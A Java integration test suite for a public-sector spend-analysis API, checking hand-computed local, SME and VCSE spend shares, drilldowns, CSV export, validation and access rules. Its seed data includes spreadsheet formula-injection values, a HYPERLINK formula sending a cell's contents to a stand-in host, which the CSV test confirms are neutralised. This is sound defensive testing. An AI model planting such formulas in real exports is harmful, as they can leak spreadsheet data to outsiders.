package org.anchornetwork.spend.analysis;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.not;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.LocalDate;
import java.util.List;
import java.util.Map;

import jakarta.inject.Inject;

import org.anchornetwork.spend.supplier.service.SupplierRegistry;
import org.anchornetwork.testsupport.RequiresLocalInfrastructure;
import org.anchornetwork.testsupport.SharedData;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.quarkus.test.security.TestSecurity;
import io.quarkus.test.security.oidc.Claim;
import io.quarkus.test.security.oidc.ClaimType;
import io.quarkus.test.security.oidc.OidcSecurity;
import io.restassured.path.json.JsonPath;
import io.restassured.response.ValidatableResponse;

/**
 * Every measure and drilldown on a small data set computed by hand: three anchors' payments in financial year
 * 2042-43, which no other test pays in (ten payments, £5,050.00 in all).
 *
 * <pre>
 * anchor      date        amount   supplier (district; size; VCSE)        expense type        category
 * GB-LAE-A01  2042-04-10  1000.00  Joinery  (Darlington; SMALL; no)       Building repairs    construction
 * GB-LAE-A01  2042-05-10   500.00  Cleaning (County Durham; MEDIUM; yes)  Cleaning            facilities
 * GB-LAE-A01  2042-07-01   300.00  Consulting (no postcode; LARGE)        Consultancy fees    professional-services
 * GB-LAE-A01  2042-08-01   200.00  Joinery                                Electricity         energy-utilities (not influenceable)
 * GB-LAE-A01  2042-09-01   100.00  redacted payee                         Cleaning            facilities
 * GB-NHS-A02  2042-04-20  2000.00  Joinery                                Building repairs    construction
 * GB-NHS-A02  2042-10-05   400.00  Care (Stockton-on-Tees; MICRO; yes; charter signatory)  Social care  social-care
 * GB-NHS-A02  2043-01-15  -100.00  Cleaning (a credit note)               Cleaning            facilities
 * GB-EDU-A03  2042-06-30   600.00  Joinery                                Building repairs    construction
 * GB-EDU-A03  2043-03-31    50.00  a name the registry does not know      Analysis gadgetry   uncategorised
 * </pre>
 *
 * Local to Darlington: 3,800.00 (73.79% of 5,150.00 positive spend); to the Tees Valley: 4,200.00 (81.55%); to the
 * North East: 4,600.00 (91.26%); location unknown: 450.00 (8.74%). SMEs 4,600.00 (91.26%), VCSEs 800.00 (17.48%),
 * signatories 400.00 (7.77%).
 *
 * <p>The arithmetic is what these tests check, so the privacy rule is set aside (a threshold of one anchor): with three
 * anchors and five suppliers almost every figure would be one supplier's. {@code NetworkPrivacyTest} checks the rule.
 */
@QuarkusTest
@QuarkusTestResource(RequiresLocalInfrastructure.class)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
@TestProfile(PrivacyAside.class)
class SpendAggregateTest {

    static final String A1 = "GB-LAE-A01";
    static final String A2 = "GB-NHS-A02";
    static final String A3 = "GB-EDU-A03";
    private static final String YEAR = "cut=financialYear:2042-43";

    @Inject
    SupplierRegistry registry;

    @Test
    @Order(1)
    @TestSecurity(user = "analysis-portal", roles = "portal")
    @OidcSecurity(claims = { @Claim(key = "org_id", value = "GB-COH-70000088"),
            @Claim(key = "acts_for", value = "[\"GB-LAE-A01\",\"GB-NHS-A02\",\"GB-EDU-A03\"]", type = ClaimType.JSON_ARRAY) })
    void theAnchorsRecordTheirPayments() {
        SharedData.file("geography/postcodes_DL_to_lad.csv");
        given().contentType("application/json").body("""
                {"suppliers":[{"name":"Analysis Darlington Joinery","postcode":"DL1 5QT","sizeClass":"SMALL","vcse":false},
                 {"name":"Analysis Durham Cleaning","postcode":"DL2 2UL","sizeClass":"MEDIUM","vcse":true},
                 {"name":"Analysis Stockton Care","organisationId":"GB-COH-70000089","postcode":"TS18 1AA","sizeClass":"MICRO","vcse":true},
                 {"name":"Analysis Leeds Consulting","sizeClass":"LARGE"},
                 {"name":"=HYPERLINK(\\"http://x/?\\"&A1)","postcode":"DL1 5QT"}]}""")
                .post("/api/v1/suppliers/vendor-master?anchorOrgId=" + A1).then().statusCode(200);
        record(A1, """
                {"paymentDate":"2042-04-10","amount":1000.00,"supplierName":"Analysis Darlington Joinery","expenseType":"Building repairs","transactionRef":"AN-1"},
                {"paymentDate":"2042-05-10","amount":500.00,"supplierName":"Analysis Durham Cleaning","expenseType":"Cleaning","transactionRef":"AN-2"},
                {"paymentDate":"2042-07-01","amount":300.00,"supplierName":"Analysis Leeds Consulting","expenseType":"Consultancy fees","transactionRef":"AN-3"},
                {"paymentDate":"2042-08-01","amount":200.00,"supplierName":"Analysis Darlington Joinery","expenseType":"Electricity","transactionRef":"AN-4"},
                {"paymentDate":"2042-09-01","amount":100.00,"redacted":true,"expenseType":"Cleaning","transactionRef":"AN-5"},
                {"paymentDate":"2043-05-02","amount":-959.84,"supplierName":"=HYPERLINK(\\"http://x/?\\"&A1)","expenseType":"=SUM(A1:A9)","transactionRef":"AN-11"}""");
        record(A2, """
                {"paymentDate":"2042-04-20","amount":2000.00,"supplierName":"Analysis Darlington Joinery","expenseType":"Building repairs","transactionRef":"AN-6"},
                {"paymentDate":"2042-10-05","amount":400.00,"supplierName":"Analysis Stockton Care","expenseType":"Social care","transactionRef":"AN-7"},
                {"paymentDate":"2043-01-15","amount":-100.00,"supplierName":"Analysis Durham Cleaning","expenseType":"Cleaning","transactionRef":"AN-8"}""");
        record(A3, """
                {"paymentDate":"2042-06-30","amount":600.00,"supplierName":"Analysis Darlington Joinery","expenseType":"Building repairs","transactionRef":"AN-9"},
                {"paymentDate":"2043-03-31","amount":50.00,"supplierName":"Analysis Unregistered Widgets","expenseType":"Analysis gadgetry","transactionRef":"AN-10"}""");
        // Stockton Care signs the charter (as pledge-service's event would tell spend-service).
        QuarkusTransaction.requiringNew().run(() -> registry.markCharterSignatory("GB-COH-70000089", "Analysis Stockton Care",
                "fairer-richer-darlington", LocalDate.of(2042, 1, 1)));
    }

    private static void record(String anchor, String payments) {
        given().contentType("application/json").body("{\"anchorOrgId\":\"" + anchor + "\",\"payments\":[" + payments + "]}")
                .post("/api/v1/payments").then().statusCode(201);
    }

    @Test
    @Order(2)
    @TestSecurity(user = "a01", roles = "anchor")
    @OidcSecurity(claims = @Claim(key = "org_id", value = A1))
    void theNetworkYearHasEveryMeasureAsComputedByHand() {
        ValidatableResponse year = given().get("/api/v1/spend/aggregate?" + YEAR + "&measures=" + allMeasures())
                .then().statusCode(200);
        year.body("cellCount", equalTo(1)).body("definitions.source", equalTo("spend_cube_supplier_year"))
                .body("definitions.period.from", equalTo("2042-04-01")).body("definitions.period.to", equalTo("2043-03-31"))
                .body("definitions.period.financialYears", equalTo(List.of("2042-43")))
                .body("definitions.denominator", equalTo("ALL")).body("definitions.scope", equalTo("NETWORK"))
                .body("definitions.nonInfluenceableCategories", hasItem("energy-utilities"))
                .body("definitions.tiers.find { it.tier == 'darlington' }.versions[0].version", equalTo(1))
                .body("definitions.tiers.find { it.tier == 'darlington' }.versions[0].financialYears", equalTo(List.of("2042-43")));
        Map<String, Object> summary = year.extract().jsonPath().getMap("summary");
        assertEquals(10, summary.get("paymentCount"));
        assertEquals(5050.0f, summary.get("totalSpend"));
        assertEquals(4, summary.get("supplierCount"), "Joinery, Cleaning, Consulting and Care; the redacted payee and "
                + "the name the registry does not know are no supplier");
        JsonPath json = year.extract().jsonPath();
        // Shares are of positive spend: A02's credit from Durham Cleaning in January nets to nothing in its month, so
        // 5,150.00; spend figures keep the credit (Durham Cleaning's 400.00 net).
        assertEquals(5150.0f, json.getFloat("summary.positiveSpend"));
        assertEquals(3800.0f, json.getFloat("summary.localSpend.darlington"));
        assertEquals(73.79f, json.getFloat("summary.localShare.darlington"));
        assertEquals(4200.0f, json.getFloat("summary.localSpend.tees-valley"));
        assertEquals(81.55f, json.getFloat("summary.localShare.tees-valley"));
        assertEquals(4600.0f, json.getFloat("summary.localSpend.north-east"));
        assertEquals(91.26f, json.getFloat("summary.localShare.north-east"));
        assertEquals(450.0f, json.getFloat("summary.unknownLocationSpend"));
        assertEquals(8.74f, json.getFloat("summary.unknownLocationShare"));
        assertEquals(4600.0f, json.getFloat("summary.smeSpend"));
        assertEquals(91.26f, json.getFloat("summary.smeShare"));
        assertEquals(800.0f, json.getFloat("summary.vcseSpend"));
        assertEquals(17.48f, json.getFloat("summary.vcseShare"));
        assertEquals(400.0f, json.getFloat("summary.signatorySpend"));
        assertEquals(7.77f, json.getFloat("summary.signatoryShare"));
    }

    @Test
    @Order(3)
    @TestSecurity(user = "a02", roles = "anchor")
    @OidcSecurity(claims = @Claim(key = "org_id", value = A2))
    void localShareByAnchorAndQuarterComesFromTheSmallestCube() {
        JsonPath json = given().get("/api/v1/spend/aggregate?drilldown=anchor,quarter&" + YEAR).then().statusCode(200)
                .body("definitions.source", equalTo("spend_cube_month")).body("cellCount", equalTo(7))
                .body("drilldown", equalTo(List.of("anchor", "quarter"))).extract().jsonPath();
        String a1q1 = "cells.find { it.anchor == 'GB-LAE-A01' && it.quarter == '2042-43-Q1' }";
        assertEquals(1500.0f, json.getFloat(a1q1 + ".totalSpend"));
        assertEquals(2, json.getInt(a1q1 + ".paymentCount"));
        assertEquals(66.67f, json.getFloat(a1q1 + ".localShare.darlington"));
        assertEquals(100.0f, json.getFloat(a1q1 + ".localShare.north-east"));
        assertEquals("GB-LAE-A01", json.getString(a1q1 + ".anchorName"), "an anchor the admin has not described is named by its id");
        String a1q2 = "cells.find { it.anchor == 'GB-LAE-A01' && it.quarter == '2042-43-Q2' }";
        assertEquals(600.0f, json.getFloat(a1q2 + ".totalSpend"));
        assertEquals(33.33f, json.getFloat(a1q2 + ".localShare.darlington"));
        assertEquals(66.67f, json.getFloat(a1q2 + ".unknownLocationShare"), "the consultant without a postcode and the redacted payee");
        String a2q3 = "cells.find { it.anchor == 'GB-NHS-A02' && it.quarter == '2042-43-Q3' }";
        assertEquals(0.0f, json.getFloat(a2q3 + ".localShare.darlington"));
        assertEquals(100.0f, json.getFloat(a2q3 + ".localShare.tees-valley"));
        assertEquals(400.0f, json.getFloat(a2q3 + ".signatorySpend"));
        String a2q4 = "cells.find { it.anchor == 'GB-NHS-A02' && it.quarter == '2042-43-Q4' }";
        assertEquals(-100.0f, json.getFloat(a2q4 + ".totalSpend"), "a credit note is spend too");
        assertEquals(0.0f, json.getFloat(a2q4 + ".positiveSpend"));
        assertNull(json.get(a2q4 + ".localShare.darlington"), "no share of nothing, never a share above 100%");
        assertEquals(5050.0f, json.getFloat("summary.totalSpend"));
    }

    @Test
    @Order(4)
    @TestSecurity(user = "a03", roles = "anchor")
    @OidcSecurity(claims = @Claim(key = "org_id", value = A3))
    void categoriesAndTheInfluenceableDenominator() {
        JsonPath byCategory = given().get("/api/v1/spend/aggregate?drilldown=category&" + YEAR).then().statusCode(200)
                .body("definitions.source", equalTo("spend_cube_category")).extract().jsonPath();
        assertEquals(3600.0f, byCategory.getFloat("cells.find { it.category == 'construction' }.totalSpend"));
        assertEquals(3, byCategory.getInt("cells.find { it.category == 'construction' }.paymentCount"));
        assertEquals("Construction, repairs and highways", byCategory.getString("cells.find { it.category == 'construction' }.categoryLabel"));
        assertEquals(500.0f, byCategory.getFloat("cells.find { it.category == 'facilities' }.totalSpend"));
        assertEquals(300.0f, byCategory.getFloat("cells.find { it.category == 'professional-services' }.totalSpend"));
        assertEquals(200.0f, byCategory.getFloat("cells.find { it.category == 'energy-utilities' }.totalSpend"));
        assertEquals(400.0f, byCategory.getFloat("cells.find { it.category == 'social-care' }.totalSpend"));
        assertEquals(50.0f, byCategory.getFloat("cells.find { it.category == 'uncategorised' }.totalSpend"));

        // Influenceable spend leaves out the electricity (energy and utilities): 4,850.00, of which 3,600.00 in Darlington.
        JsonPath influenceable = given().get("/api/v1/spend/aggregate?denominator=influenceable&" + YEAR).then().statusCode(200)
                .body("definitions.denominator", equalTo("INFLUENCEABLE")).extract().jsonPath();
        assertEquals(4850.0f, influenceable.getFloat("summary.totalSpend"));
        assertEquals(3600.0f, influenceable.getFloat("summary.localSpend.darlington"));
        assertEquals(72.73f, influenceable.getFloat("summary.localShare.darlington"), "of 4,950.00 positive spend");

        JsonPath byInfluence = given().get("/api/v1/spend/aggregate?drilldown=influenceable&" + YEAR).then().statusCode(200).extract().jsonPath();
        assertEquals(200.0f, byInfluence.getFloat("cells.find { it.influenceable == false }.totalSpend"));

        JsonPath byType = given().get("/api/v1/spend/aggregate?drilldown=anchorType&" + YEAR).then().statusCode(200).extract().jsonPath();
        assertEquals(2100.0f, byType.getFloat("cells.find { it.anchorType == 'LOCAL_AUTHORITY' }.totalSpend"));
        assertEquals(2300.0f, byType.getFloat("cells.find { it.anchorType == 'NHS' }.totalSpend"));
        assertEquals(650.0f, byType.getFloat("cells.find { it.anchorType == 'EDUCATION' }.totalSpend"));
        given().get("/api/v1/spend/aggregate?drilldown=anchor&cut=anchorType:NHS&" + YEAR).then().statusCode(200)
                .body("cellCount", equalTo(1)).body("cells[0].anchor", equalTo(A2));

        JsonPath byMonth = given().get("/api/v1/spend/aggregate?drilldown=month&cut=quarter:2042-43-Q1").then().statusCode(200)
                .body("definitions.period.from", equalTo("2042-04-01")).body("definitions.period.to", equalTo("2042-06-30"))
                .extract().jsonPath();
        assertEquals(3000.0f, byMonth.getFloat("cells.find { it.month == '2042-04' }.totalSpend"));
        assertEquals(500.0f, byMonth.getFloat("cells.find { it.month == '2042-05' }.totalSpend"));
        assertEquals(600.0f, byMonth.getFloat("cells.find { it.month == '2042-06' }.totalSpend"));
        given().get("/api/v1/spend/aggregate?drilldown=financialYear&cut=month:2043-03").then().statusCode(200)
                .body("cells[0].financialYear", equalTo("2042-43")).body("cells[0].totalSpend", equalTo(50.0f));
    }

    @Test
    @Order(5)
    @TestSecurity(user = "a01", roles = "anchor")
    @OidcSecurity(claims = @Claim(key = "org_id", value = A1))
    void whereSuppliersAreAndWhatTheyAre() {
        JsonPath byTier = given().get("/api/v1/spend/aggregate?drilldown=tier&" + YEAR).then().statusCode(200).extract().jsonPath();
        assertEquals(3800.0f, byTier.getFloat("cells.find { it.tier == 'darlington' }.totalSpend"));
        // (Stockton-on-Tees and County Durham may be in narrower tiers other tests define.)
        assertEquals(450.0f, byTier.getFloat("cells.find { it.tier == 'unknown' }.totalSpend"));
        assertEquals(5050.0f, byTier.getFloat("summary.totalSpend"));

        JsonPath byDistrict = given().get("/api/v1/spend/aggregate?drilldown=localAuthority&" + YEAR).then().statusCode(200)
                .body("definitions.source", equalTo("spend_cube_area")).extract().jsonPath();
        assertEquals(3800.0f, byDistrict.getFloat("cells.find { it.localAuthority == 'E06000005' }.totalSpend"));
        assertEquals("Darlington", byDistrict.getString("cells.find { it.localAuthority == 'E06000005' }.localAuthorityName"));
        assertEquals(400.0f, byDistrict.getFloat("cells.find { it.localAuthority == 'E06000047' }.totalSpend"));
        assertEquals(400.0f, byDistrict.getFloat("cells.find { it.localAuthority == 'E06000004' }.totalSpend"));
        assertEquals(450.0f, byDistrict.getFloat("cells.find { it.localAuthority == 'unknown' }.totalSpend"));

        JsonPath byRegion = given().get("/api/v1/spend/aggregate?drilldown=region&" + YEAR).then().statusCode(200).extract().jsonPath();
        assertEquals(4600.0f, byRegion.getFloat("cells.find { it.region == 'E12000001' }.totalSpend"));
        assertEquals("North East", byRegion.getString("cells.find { it.region == 'E12000001' }.regionName"));
        given().get("/api/v1/spend/aggregate?cut=region:E12000001&" + YEAR).then().statusCode(200)
                .body("summary.totalSpend", equalTo(4600.0f));

        JsonPath bySize = given().get("/api/v1/spend/aggregate?drilldown=supplierSize&" + YEAR).then().statusCode(200)
                .body("definitions.source", equalTo("spend_cube_supplier_kind")).extract().jsonPath();
        assertEquals(3800.0f, bySize.getFloat("cells.find { it.supplierSize == 'SMALL' }.totalSpend"));
        assertEquals(400.0f, bySize.getFloat("cells.find { it.supplierSize == 'MEDIUM' }.totalSpend"));
        assertEquals(400.0f, bySize.getFloat("cells.find { it.supplierSize == 'MICRO' }.totalSpend"));
        assertEquals(300.0f, bySize.getFloat("cells.find { it.supplierSize == 'LARGE' }.totalSpend"));
        assertEquals(150.0f, bySize.getFloat("cells.find { it.supplierSize == 'UNKNOWN' }.totalSpend"));
        given().get("/api/v1/spend/aggregate?cut=supplierSize:SME&" + YEAR).then().statusCode(200)
                .body("summary.totalSpend", equalTo(4600.0f));

        JsonPath byVcse = given().get("/api/v1/spend/aggregate?drilldown=vcse,signatory&" + YEAR).then().statusCode(200).extract().jsonPath();
        assertEquals(400.0f, byVcse.getFloat("cells.find { it.vcse == 'YES' && it.signatory == true }.totalSpend"));
        assertEquals(400.0f, byVcse.getFloat("cells.find { it.vcse == 'YES' && it.signatory == false }.totalSpend"));
        assertEquals(3800.0f, byVcse.getFloat("cells.find { it.vcse == 'NO' }.totalSpend"));

        // Within the Tees Valley: Darlington and Stockton-on-Tees, nested tiers included.
        given().get("/api/v1/spend/aggregate?cut=within:tees-valley&" + YEAR).then().statusCode(200)
                .body("summary.totalSpend", equalTo(4200.0f));
        given().get("/api/v1/spend/aggregate?drilldown=category&cut=tier:unknown|category:facilities,professional-services&" + YEAR)
                .then().statusCode(200).body("summary.totalSpend", equalTo(400.0f)).body("cellCount", equalTo(2));
    }

    @Test
    @Order(7)
    @TestSecurity(user = "a01", roles = "anchor")
    @OidcSecurity(claims = @Claim(key = "org_id", value = A1))
    void exportsAsCsvWithFormulasNeutralisedAndNumbersKept() {
        String csv = given().get("/api/v1/spend/aggregate?drilldown=supplier,category&scope=own&cut=financialYear:2043-44&format=csv")
                .then().statusCode(200).contentType(containsString("text/csv"))
                .header("Content-Disposition", containsString("attachment")).extract().asString();
        String[] lines = csv.split("\r\n");
        assertTrue(lines[0].startsWith("\"supplier\",\"supplierName\",\"category\",\"categoryLabel\",\"paymentCount\",\"totalSpend\""),
                lines[0]);
        assertTrue(lines[0].contains("localShare.darlington"), lines[0]);
        assertTrue(csv.contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\""), csv);
        assertTrue(csv.contains(",-959.84,"), "amounts stay numbers: " + csv);
        given().accept("text/csv").get("/api/v1/spend/aggregate?drilldown=anchor&" + YEAR).then().statusCode(200)
                .contentType(containsString("text/csv"));
        given().get("/api/v1/spend/aggregate?format=xml").then().statusCode(400);
    }

    @Test
    @Order(8)
    @TestSecurity(user = "a01", roles = "anchor")
    @OidcSecurity(claims = @Claim(key = "org_id", value = A1))
    void badQueriesAreProblemsNamingTheParameter() {
        given().get("/api/v1/spend/aggregate?drilldown=anchor,colour").then().statusCode(400)
                .contentType(containsString("application/problem+json"))
                .body("errors[0].pointer", equalTo("drilldown")).body("errors[0].message", containsString("colour"));
        given().get("/api/v1/spend/aggregate?cut=financialYear:2042").then().statusCode(400)
                .body("errors[0].pointer", equalTo("cut")).body("errors[0].message", containsString("2042"));
        given().get("/api/v1/spend/aggregate?cut=month:2042-43").then().statusCode(400);
        given().get("/api/v1/spend/aggregate?cut=anchor:not an id").then().statusCode(400);
        given().get("/api/v1/spend/aggregate?cut=within:atlantis").then().statusCode(400);
        given().get("/api/v1/spend/aggregate?cut=category:unheard-of").then().statusCode(400);
        given().get("/api/v1/spend/aggregate?cut=nocolon").then().statusCode(400);
        given().get("/api/v1/spend/aggregate?measures=happiness").then().statusCode(400).body("errors[0].pointer", equalTo("measures"));
        given().get("/api/v1/spend/aggregate?denominator=some").then().statusCode(400);
        given().get("/api/v1/spend/aggregate?order=colour:up").then().statusCode(400);
        given().get("/api/v1/spend/aggregate?limit=0").then().statusCode(400);
        given().get("/api/v1/spend/aggregate?cursor=%%%").then().statusCode(400);
        // Paging: one cell a page, the cursor gives the next.
        String next = given().get("/api/v1/spend/aggregate?drilldown=anchor&order=anchor&limit=1&" + YEAR).then().statusCode(200)
                .body("cells.size()", equalTo(1)).body("cellCount", equalTo(3)).body("cells[0].anchor", equalTo(A3))
                .extract().path("next");
        given().get("/api/v1/spend/aggregate?drilldown=anchor&order=anchor&limit=1&cursor=" + next + "&" + YEAR).then().statusCode(200)
                .body("cells[0].anchor", equalTo(A1));
    }

    @Test
    @Order(9)
    void anonymousCallersHaveOnlyThePublicHeadline() {
        given().get("/api/v1/spend/aggregate").then().statusCode(401);
        given().get("/api/v1/spend/headline").then().statusCode(200);
    }

    @Test
    @Order(10)
    @TestSecurity(user = "supplier", roles = "supplier")
    @OidcSecurity(claims = @Claim(key = "org_id", value = "GB-COH-10000002"))
    void suppliersAndPortalsAreNotNetworkMembers() {
        given().get("/api/v1/spend/aggregate").then().statusCode(403);
    }

    @Test
    @Order(11)
    @TestSecurity(user = "network-admin", roles = "network-admin")
    @OidcSecurity(claims = @Claim(key = "org_id", value = "GB-LAE-DAL"))
    void aNewCategoryRuleMovesTheSpendOfTheExpenseTypesItMatches() {
        Map<String, Object> original = given().get("/api/v1/spend/categories").then().statusCode(200).extract().jsonPath().getMap("");
        @SuppressWarnings("unchecked")
        List<Object> rules = new java.util.ArrayList<>((List<Object>) original.get("rules"));
        rules.add(0, Map.of("pattern", "analysis gadget*", "category", "supplies"));
        Map<String, Object> changed = new java.util.HashMap<>(original);
        changed.put("rules", rules);
        try {
            given().contentType("application/json").body(changed).put("/api/v1/spend/categories").then().statusCode(200)
                    .body("rules[0].pattern", equalTo("analysis gadget*"));
            JsonPath byCategory = given().get("/api/v1/spend/aggregate?drilldown=category&" + YEAR).then().statusCode(200)
                    .extract().jsonPath();
            assertEquals(50.0f, byCategory.getFloat("cells.find { it.category == 'supplies' }.totalSpend"));
            assertTrue(byCategory.getList("cells.category").stream().noneMatch("uncategorised"::equals));
            given().get("/api/v1/spend/categories/expense-types").then().statusCode(200)
                    .body("find { it.expenseType == 'Analysis gadgetry' }.category", equalTo("supplies"));
        } finally {
            given().contentType("application/json").body(original).put("/api/v1/spend/categories").then().statusCode(200);
        }
        given().get("/api/v1/spend/aggregate?drilldown=category&" + YEAR).then().statusCode(200)
                .body("cells.find { it.category == 'uncategorised' }.totalSpend", equalTo(50.0f));
        // A set without 'uncategorised', or a rule naming no category of the set, is refused.
        given().contentType("application/json").body("""
                {"categories":[{"code":"only","label":"Only","influenceable":true}],"rules":[{"pattern":"*","category":"other"}]}""")
                .put("/api/v1/spend/categories").then().statusCode(422).body("errors.pointer", hasItem("/rules/0/category"))
                .body("errors.pointer", hasItem("/categories"));
        given().contentType("application/json").body("{\"categories\":[],\"rules\":[]}").put("/api/v1/spend/categories")
                .then().statusCode(422);
        // Every kind of error at once (issue 15): the set's constraints and its rules.
        given().contentType("application/json").body("""
                {"categories":[{"code":"only","label":"","influenceable":true},{"code":"only","label":"Again","influenceable":true}],
                 "rules":[{"pattern":"*","category":"other"}]}""")
                .put("/api/v1/spend/categories").then().statusCode(422)
                .body("errors.collect { it.pointer + ' ' + it.code }", org.hamcrest.Matchers.containsInAnyOrder(
                        "/categories/0/label NotBlank", "/categories/1/code duplicate", "/categories required",
                        "/rules/0/category unknown-category"));
    }

    @Test
    @Order(12)
    @TestSecurity(user = "network-admin", roles = "network-admin")
    @OidcSecurity(claims = @Claim(key = "org_id", value = "GB-LAE-DAL"))
    void theNetworkAdminDescribesAnchorsWhoseTypesAreADimension() {
        given().contentType("application/json").body("{\"name\":\"Analysis College\",\"anchorType\":\"HOUSING\"}")
                .put("/api/v1/spend/anchors/" + A3).then().statusCode(200).body("described", equalTo(true));
        given().get("/api/v1/spend/anchors").then().statusCode(200)
                .body("find { it.orgId == 'GB-EDU-A03' }.anchorType", equalTo("HOUSING"))
                .body("find { it.orgId == 'GB-NHS-A02' }.anchorType", equalTo("NHS"))
                .body("find { it.orgId == 'GB-NHS-A02' }.described", equalTo(false));
        given().get("/api/v1/spend/aggregate?drilldown=anchorType,anchor&" + YEAR).then().statusCode(200)
                .body("cells.find { it.anchor == 'GB-EDU-A03' }.anchorType", equalTo("HOUSING"))
                .body("cells.find { it.anchor == 'GB-EDU-A03' }.anchorName", equalTo("Analysis College"));
        given().contentType("application/json").body("{\"name\":\"X\",\"anchorType\":\"CASTLE\"}")
                .put("/api/v1/spend/anchors/" + A3).then().statusCode(400);
        given().contentType("application/json").body("{\"name\":\"X\",\"anchorType\":\"OTHER\"}")
                .put("/api/v1/spend/anchors/not-an-id").then().statusCode(422);
    }

    @Test
    @Order(13)
    @TestSecurity(user = "analysis-portal", roles = "portal")
    @OidcSecurity(claims = { @Claim(key = "org_id", value = "GB-COH-70000088"),
            @Claim(key = "acts_for", value = "[\"GB-LAE-A01\",\"GB-NHS-A02\",\"GB-EDU-A03\"]", type = ClaimType.JSON_ARRAY) })
    void aVendorMasterThatPlacesASupplierMovesItsSpendAtOnce() {
        given().contentType("application/json").body("""
                {"suppliers":[{"name":"Analysis Leeds Consulting","postcode":"DL3 6JL"}]}""")
                .post("/api/v1/suppliers/vendor-master?anchorOrgId=" + A1).then().statusCode(200);
        assertEquals(4100.0f, darlingtonSpendIn2042());
    }

    private static float darlingtonSpendIn2042() {
        return QuarkusTransaction.requiringNew().call(() -> ((Number) org.anchornetwork.spend.payment.Payment.getEntityManager()
                .createNativeQuery("""
                        select coalesce(sum(amount), 0) from spend_cube_month where month between '2042-04-01' and '2043-03-01'
                        and locality >= 0 and (locality & (select 1 << bit from locality_tier_bit where name = 'darlington')) <> 0""")
                .getSingleResult()).floatValue());
    }

    private static String allMeasures() {
        return "paymentCount,totalSpend,positiveSpend,supplierCount,localSpend,localShare,smeSpend,smeShare,vcseSpend,vcseShare,"
                + "signatorySpend,signatoryShare,unknownLocationSpend,unknownLocationShare";
    }
}
